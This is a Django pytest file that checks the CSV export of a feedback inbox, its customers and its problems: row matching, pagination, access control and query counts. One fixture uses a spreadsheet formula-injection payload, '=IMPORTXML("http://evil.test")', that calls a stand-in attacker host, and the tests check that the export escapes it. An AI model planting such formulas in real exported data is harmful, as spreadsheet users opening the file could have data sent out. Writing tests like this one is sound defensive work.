"""The feedback inbox, customers and problems as CSV: the page's rows, every page of them."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.test import Client

from lodestar.discovery import services
from lodestar.discovery.models import Customer, Feedback
from tests.conftest import Persona
from tests.discovery.conftest import Capture, capture, customers
from tests.interop.csv.conftest import column, read_csv

__all__ = ["capture", "customers"]

pytestmark = pytest.mark.django_db

FEEDBACK = "/w/acme/feedback"
CUSTOMERS = "/w/acme/customers"
PROBLEMS = "/w/acme/problems"


def ids(pattern: str, response: Any) -> list[str]:
    assert response.status_code == 200
    return re.findall(pattern, response.content.decode())


def csv_link(page: Any) -> str:
    found = re.search(r'href="([^"]+format=csv)"', page.content.decode())
    assert found is not None, "no Export CSV link"
    return found.group(1).replace("&amp;", "&")


@pytest.fixture
def feedback(capture: Capture, customers: dict[str, Customer], pm: Persona) -> list[Feedback]:
    made = [
        capture('=IMPORTXML("http://evil.test")', customer=customers["globex"], tags=["ux"]),
        capture("Slow exports", customer=customers["initech"], source="support"),
        capture('Line one "quoted",\nline two', tags=["ux", "api"]),
        capture("Old news"),
    ]
    services.feedback_update(actor=pm.actor, feedback=made[3], state="archived")
    return made


@pytest.mark.parametrize(
    "query",
    ["", "?state=all", "?state=archived", "?tag=ux", "?source=support", "?state=all&tag=api"],
)
def test_the_inbox_exports_the_rows_it_lists(
    client: Client, viewer: Persona, feedback: list[Feedback], query: str
) -> None:
    client.force_login(viewer.user)
    page = client.get(FEEDBACK + query)
    shown = ids(r'<li class="dv-row[^"]*" id="feedback-(\d+)"', page)
    rows = read_csv(client.get(csv_link(page)))
    assert [url.rsplit("/", 1)[1] for url in column(rows, "URL")] == shown
    assert shown


def test_feedback_cells_are_safe_and_whole(
    client: Client, viewer: Persona, feedback: list[Feedback]
) -> None:
    client.force_login(viewer.user)
    rows = read_csv(client.get(FEEDBACK + "?format=csv"))
    assert rows[0][:8] == [
        "Received", "Summary", "Customer", "Contact", "Source", "State", "Insights", "Tags",
    ]  # fmt: skip
    texts = column(rows, "Text")
    assert 'Line one "quoted",\nline two' in texts
    assert '\'=IMPORTXML("http://evil.test")' in texts
    assert "api, ux" in column(rows, "Tags") or "ux, api" in column(rows, "Tags")


def test_more_than_a_page_of_feedback_comes_whole(
    client: Client, viewer: Persona, capture: Capture
) -> None:
    for n in range(55):
        capture(f"Feedback {n}")
    client.force_login(viewer.user)
    assert len(ids(r'id="feedback-(\d+)"', client.get(FEEDBACK))) == 50
    assert len(read_csv(client.get(FEEDBACK + "?format=csv"))) == 56


@pytest.mark.parametrize("query", ["", "?segment=SMB"])
def test_customers_export_the_rows_the_page_lists(
    client: Client, viewer: Persona, feedback: list[Feedback], query: str
) -> None:
    client.force_login(viewer.user)
    page = client.get(CUSTOMERS + query)
    shown = ids(r'href="/w/acme/customers/(\d+)"', page)
    rows = read_csv(client.get(csv_link(page)))
    assert [url.rsplit("/", 1)[1] for url in column(rows, "URL")] == shown
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    if not query:
        assert by_name["Globex"]["ARR"] == "120000"  # a number, as stored
        assert by_name["Globex"]["Feedback"] == "1"
        assert by_name["Hooli"]["ARR"] == ""


@pytest.mark.parametrize("query", ["", "?sort=arr", "?sort=newest", "?status=new"])
def test_problems_export_the_rows_the_page_lists_with_their_evidence(
    client: Client, viewer: Persona, pm: Persona, feedback: list[Feedback], query: str
) -> None:
    first = services.problem_create(actor=pm.actor, title="@Exports are slow")
    second = services.problem_create(actor=pm.actor, title="Dashboards are hard")
    services.insight_create(actor=pm.actor, feedback=feedback[1], quote="Slow", problems=[first])
    services.insight_create(
        actor=pm.actor, feedback=feedback[0], quote="IMPORTXML", problems=[first, second]
    )
    client.force_login(viewer.user)
    page = client.get(PROBLEMS + query)
    shown = ids(r'<tr data-problem="(\d+)"', page)
    rows = read_csv(client.get(csv_link(page)))
    assert [url.rsplit("/", 1)[1] for url in column(rows, "URL")] == shown
    by_title = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_title["'@Exports are slow"]["Customers"] == "2"
    assert by_title["'@Exports are slow"]["ARR"] == "129000"
    assert by_title["'@Exports are slow"]["Insights"] == "2"


@pytest.mark.parametrize("path", [FEEDBACK, CUSTOMERS, PROBLEMS])
def test_an_outsider_gets_nothing_and_an_empty_list_a_header(
    client: Client, outsider: Persona, viewer: Persona, path: str
) -> None:
    client.force_login(outsider.user)
    assert client.get(path + "?format=csv").status_code == 404
    client.force_login(viewer.user)
    assert len(read_csv(client.get(path + "?format=csv"))) == 1


@pytest.mark.parametrize("path", [FEEDBACK + "?state=all", CUSTOMERS, PROBLEMS])
def test_the_queries_do_not_grow_with_the_rows(
    client: Client,
    viewer: Persona,
    pm: Persona,
    capture: Capture,
    path: str,
    django_assert_max_num_queries: Any,
) -> None:
    client.force_login(viewer.user)

    def add(n: int) -> None:
        customer = services.customer_create(actor=pm.actor, name=f"C{n}", arr=n)
        item = capture(f"Feedback {n}", customer=customer)
        problem = services.problem_create(actor=pm.actor, title=f"P{n}")
        services.insight_create(actor=pm.actor, feedback=item, quote="Feedback", problems=[problem])

    def count() -> int:
        with django_assert_max_num_queries(30) as captured:
            read_csv(client.get(path + "&format=csv" if "?" in path else path + "?format=csv"))
        return len(captured.captured_queries)

    add(0)
    count()
    few = count()
    for n in range(1, 8):
        add(n)
    assert count() == few
